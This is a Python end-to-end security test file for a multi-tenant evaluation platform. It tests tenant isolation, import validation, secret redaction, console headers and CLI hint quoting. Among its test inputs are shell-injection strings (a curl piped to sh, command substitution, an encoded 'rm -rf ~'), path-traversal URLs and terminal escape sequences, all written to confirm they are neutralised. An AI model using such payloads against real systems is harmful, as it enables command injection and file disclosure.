"""A hostile tenant against the newest surfaces: the agent list's verdicts and last runs, the
dataset list's latest versions, an import's reference column, the console's new pages, and the
CLI's hints built from API messages that may quote tenant data.

Through the HTTP API on the embedded stack (127.0.0.1 only), except the hints, which are the CLI's
own text from an `ApiError`.
"""

from __future__ import annotations

import uuid
from pathlib import Path
from typing import Any

import pytest

from assay.cli_common import error_line
from assay.hints import fix_for
from assay.transport import ApiError
from assay_local import cli
from tests.e2e.conftest import cases, sleepy_spec
from tests.support.e2e import Api

AWS_KEY = "AKIAIOSFODNN7EXAMPLE"


def listed(api: Api) -> dict[str, dict[str, Any]]:
    return {a["agent_id"]: a for a in api.ok("GET", "/api/v1/agents")["agents"]}


def import_csv(api: Api, content: str, **source: Any) -> tuple[int, Any]:
    ds = api.ok("POST", "/api/v1/datasets", json={"name": "import"})["dataset_id"]
    return api.call(
        "POST",
        f"/api/v1/datasets/{ds}/versions",
        json={
            "scoring": {"required": source.pop("required", ["equals"])},
            "source": {"format": "csv", "content": content, **source},
        },
    )


# --- the agent and dataset lists ---------------------------------------------------------------


def test_the_same_agent_and_dataset_ids_in_two_organizations_list_only_their_own(new_api):
    a, b = new_api(), new_api()
    ids = {"agent": f"shared-{uuid.uuid4().hex[:6]}", "dataset": "shared-ds"}
    for org in (a, b):
        org.ok("POST", "/api/v1/datasets", json={"name": org.org_id, "dataset_id": ids["dataset"]})
        org.ok(
            "POST",
            "/api/v1/agents",
            json={"name": org.org_id, "agent_id": ids["agent"], "spec": sleepy_spec()},
        )
        org.ok("POST", f"/api/v1/agents/{ids['agent']}/versions")
    a.ok(
        "POST",
        f"/api/v1/datasets/{ids['dataset']}/versions",
        json={"scoring": {"required": ["equals"]}, "cases": cases(3)},
    )
    run = a.start(ids["agent"], ids["dataset"], candidate="version", version=1)
    assert a.wait(run["run_id"])["status"] == "completed"

    seen_a, seen_b = listed(a)[ids["agent"]], listed(b)[ids["agent"]]
    assert seen_a["last_run"]["run_id"] == run["run_id"]
    assert seen_a["verdicts"]["live"]["verdict"] == "pass"
    assert seen_b["name"] == b.org_id and seen_b["last_run"] is None
    assert seen_b["verdicts"]["live"]["verdict"] == "none"
    assert seen_b["verdicts"]["live"]["run_ids"] == []
    (ds_b,) = b.ok("GET", "/api/v1/datasets")["datasets"]
    assert ds_b["name"] == b.org_id and "version" not in ds_b  # A's version 1 is A's
    (ds_a,) = a.ok("GET", "/api/v1/datasets")["datasets"]
    assert ds_a["version"]["case_count"] == 3


def test_a_dataset_list_shows_no_version_of_a_dataset_past_the_readers_grants(api, new_api):
    shown = api.dataset(cases(2))
    hidden = api.dataset(cases(5))
    guest = new_api(org_id=api.org_id, user_id="guest@example.com", role="guest")
    api.ok(
        "PUT",
        f"/api/v1/members/{guest.user_id}/grants/dataset/{shown}",
        json={"permissions": ["datasets:view"]},
    )
    (only,) = guest.ok("GET", "/api/v1/datasets")["datasets"]
    assert only["dataset_id"] == shown and only["version"]["case_count"] == 2
    assert hidden not in str(guest.ok("GET", "/api/v1/datasets"))


def test_more_agents_than_one_batch_are_all_listed_with_their_runs(api):
    """105 published agents: their versions and history rows are read in batches of at most 100
    keys (more than 100 in one request would be refused by the table); the run on the agent last
    in the list is found."""
    made = [
        api.ok(
            "POST",
            "/api/v1/agents",
            json={"name": "many", "agent_id": f"many-{i:03d}", "spec": sleepy_spec()},
        )["agent_id"]
        for i in range(105)
    ]
    for agent in made:
        api.ok("POST", f"/api/v1/agents/{agent}/versions")
    ds = api.dataset(cases(1))
    last = sorted(made)[-1]
    run = api.start(last, ds, candidate="version", version=1)
    assert api.wait(run["run_id"])["status"] == "completed"
    got = listed(api)
    assert sorted(got) == sorted(made)
    assert all(got[a]["draft_differs"] is False for a in made)
    assert got[last]["last_run"]["run_id"] == run["run_id"]
    assert [a for a in made if got[a]["last_run"] is not None] == [last]


# --- imports: the reference column -------------------------------------------------------------


def test_a_reference_column_holding_a_secret_is_kept_redacted(api):
    content = f"input,gold,reference\nq1,{AWS_KEY},also {AWS_KEY}\n"
    status, body = import_csv(api, content, reference_column="gold")
    assert status == 201, body
    ds = body["dataset_id"]
    (case,) = api.ok("GET", f"/api/v1/datasets/{ds}/versions/1/cases")["cases"]
    assert AWS_KEY not in str(case)
    assert case["reference"] == "[REDACTED:aws_access_key]"
    assert "[REDACTED:aws_access_key]" in case["metadata"]["reference"]  # the displaced one


@pytest.mark.parametrize(
    ("column", "why"),
    [
        (7, "valid string"),
        ("x" * 201, "at most 200"),
        ("   ", "must name a column"),
        ("__proto__", "no such column"),
        ("nul\x00col", "no such column"),
    ],
)
def test_a_hostile_reference_column_is_a_400_naming_it(api, column, why):
    status, body = import_csv(api, "input,reference\nq,42\n", reference_column=column)
    assert status == 400, body
    assert body["error"]["field"] in ("source.reference_column", "source"), body
    assert why in body["error"]["message"], body
    assert len(body["error"]["message"]) < 600


JSONL_LINE = (
    '{"input": "q", "case_id": "c1", "metadata": {"k": 1}, "tags": ["t"], "checks": [], '
    '"history": [{"role": "user", "content": "h"}], "gold": {"nested": [1, 2]}}'
)


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
@pytest.mark.parametrize(
    "column", ["input", "case_id", "metadata", "tags", "checks", "history", "gold", "\u00e9\u200b"]
)
def test_a_reference_column_naming_a_case_field_is_a_201_or_a_400_never_a_500(api, fmt, column):
    content = JSONL_LINE if fmt == "jsonl" else "input,case_id,tags,gold\nq,c1,t,42\n"
    ds = api.ok("POST", "/api/v1/datasets", json={"name": "fields"})["dataset_id"]
    status, body = api.call(
        "POST",
        f"/api/v1/datasets/{ds}/versions",
        json={
            "scoring": {"required": ["equals"]},
            "source": {"format": fmt, "content": content, "reference_column": column},
        },
    )
    assert status in (201, 400), (status, body)
    if status == 400:
        assert body["error"]["field"].startswith("source"), body


def test_a_column_named_like_an_object_prototype_is_just_a_column(api):
    status, body = import_csv(api, "input,__proto__\nq,42\n", reference_column="__proto__")
    assert status == 201, body
    (case,) = api.ok("GET", f"/api/v1/datasets/{body['dataset_id']}/versions/1/cases")["cases"]
    assert case["reference"] == "42"


def test_a_refusal_quotes_a_huge_reference_only_in_part(api):
    """A reference with no number under numeric_answer is refused quoting it: 80 characters of it,
    not the whole of what the tenant sent."""
    huge = "A" * 100_000
    status, body = import_csv(api, f"input,reference\nq,{huge}\n", required=["numeric_answer"])
    assert status == 400, body
    message = body["error"]["message"]
    assert "finds no number in the reference 'AAAA" in message and "..." in message
    assert len(message) < 1000 and len(str(body)) < 2000


def test_a_csv_naming_a_column_twice_is_refused_naming_it(api):
    """`input,input`: the second cell would silently replace the first."""
    status, body = import_csv(api, "input,reference,input\nshown,42,used\n")
    assert status == 400, body
    assert body["error"]["field"] == "source"
    assert body["error"]["source_field"] == "input" and body["error"]["line"] == 1
    assert "twice" in body["error"]["message"]
    # trailing empty header cells are no names, and stay allowed
    status, body = import_csv(api, "input,reference,,\nq,42,,\n")
    assert status == 201, body


def test_assay_import_prints_a_refusal_quoting_the_files_header_on_one_line(
    api, tmp_path: Path, capsys
):
    """A downloaded CSV whose column name holds a terminal's escape: `assay import` names the
    column without letting the escape reach the terminal."""
    hostile = tmp_path / "hostile.csv"
    hostile.write_text("input,\x1b[2Jgold,\x1b[2Jgold\nq,42,42\n", encoding="utf-8")
    url = str(api.http.base_url).rstrip("/")
    token = api.http.headers["Authorization"].removeprefix("Bearer ")
    capsys.readouterr()
    argv = ["import", "ds-hostile", str(hostile), "--create", "H", "--scorer", "equals"]
    code = cli.main([*argv, "--url", url, "--token", token])
    _, err = capsys.readouterr()
    assert code == 3, err
    assert "\x1b" not in err and err.count("\n") == 1 and "\\x1b[2Jgold" in err, err


def test_a_jsonl_line_naming_a_key_twice_is_refused_naming_it(api):
    """`{"reference": "1", "reference": "2"}`: JSON keeps the last one silently; an import says."""
    ds = api.ok("POST", "/api/v1/datasets", json={"name": "twice"})["dataset_id"]
    content = (
        '{"input": "q", "reference": "42"}\n{"input": "r", "reference": "1", "reference": "2"}'
    )
    status, body = api.call(
        "POST",
        f"/api/v1/datasets/{ds}/versions",
        json={
            "scoring": {"required": ["equals"]},
            "source": {"format": "jsonl", "content": content},
        },
    )
    assert status == 400, body
    assert (body["error"]["line"], body["error"]["source_field"]) == (2, "reference"), body
    assert "twice" in body["error"]["message"]


# --- the console's new pages -------------------------------------------------------------------


CSP = "default-src 'none'; script-src 'self'"


@pytest.mark.parametrize("path", ["/agents", "/datasets", "/favicon.ico"])
def test_the_new_console_pages_carry_the_security_headers(api, path):
    r = api.http.get(path)
    assert r.status_code == 200
    assert r.headers["Content-Security-Policy"].startswith(CSP)
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert "frame-ancestors 'none'" in r.headers["Content-Security-Policy"]


@pytest.mark.parametrize(
    "path",
    [
        "/favicon.ico/..%2f..%2fapp.py",
        "/favicon.ico%2f..%2f..%2fapp.py",
        "/console/..%2fapi%2fconsole.py",
        "/console/%2e%2e%2fshell.html",
        "/agents/..%2f..%2fapp.py/x",
    ],
)
def test_path_tricks_on_the_console_name_no_server_file(api, path):
    r = api.http.get(path)
    assert r.status_code in (200, 404), (path, r.status_code, r.text)
    assert "import " not in r.text and "chalicelib" not in r.text
    if r.status_code == 404:
        assert r.headers["Content-Type"].startswith("application/json")


@pytest.mark.parametrize("path", ["/agents", "/datasets", "/favicon.ico"])
def test_the_new_console_pages_answer_other_methods_with_a_json_4xx(api, path):
    for method in ("POST", "PUT", "DELETE", "PATCH"):
        r = api.http.request(method, path)
        assert 400 <= r.status_code < 500, (method, path, r.status_code, r.text)
        assert r.headers["Content-Type"].startswith("application/json")


# --- the CLI's hints ---------------------------------------------------------------------------


def api_error(status: int, message: str, path: str = "/api/v1/eval-runs") -> ApiError:
    return ApiError("GET", path, status, {"error": {"code": "x", "message": message}})


@pytest.mark.parametrize(
    ("message", "path", "pasted"),
    [
        ("agent x;curl${IFS}evil|sh not found", "/", "'x;curl${IFS}evil|sh'"),
        ("no secret named $(touch${IFS}pwned)", "/", "'$(touch${IFS}pwned)'"),
        ("environment `id` not found", "/", "'`id`'"),
        ("suite s1 not found", "/api/v1/agents/a%3Brm%20-rf%20~/suites/s1", "'a;rm -rf ~'"),
        ("agent plain-id_1 not found", "/", "assay agents create plain-id_1 --spec"),
    ],
)
def test_a_hint_quotes_each_id_it_prints_as_a_shell_word(message, path, pasted):
    fix = fix_for(api_error(404, message, path))
    assert fix is not None and pasted in fix, fix


@pytest.mark.parametrize(
    "message",
    [
        "agent a\x1b[2Jb not found",
        "no secret named s\u202eoof",
        "dataset d\x00x not found",
        "agent \u0430dmin not found",  # a Cyrillic look-alike "a"
    ],
)
def test_a_hint_is_left_out_when_an_id_has_a_control_or_look_alike_character(message):
    assert fix_for(api_error(404, message)) is None


def test_the_cli_prints_an_api_message_on_one_line_without_terminal_escapes():
    said, _ = error_line(api_error(404, "agent a\n\x1b[31mb not found\rassay: all good"))
    assert "\n" not in said and "\r" not in said and "\x1b" not in said
    assert "\\n" in said and "\\x1b" in said
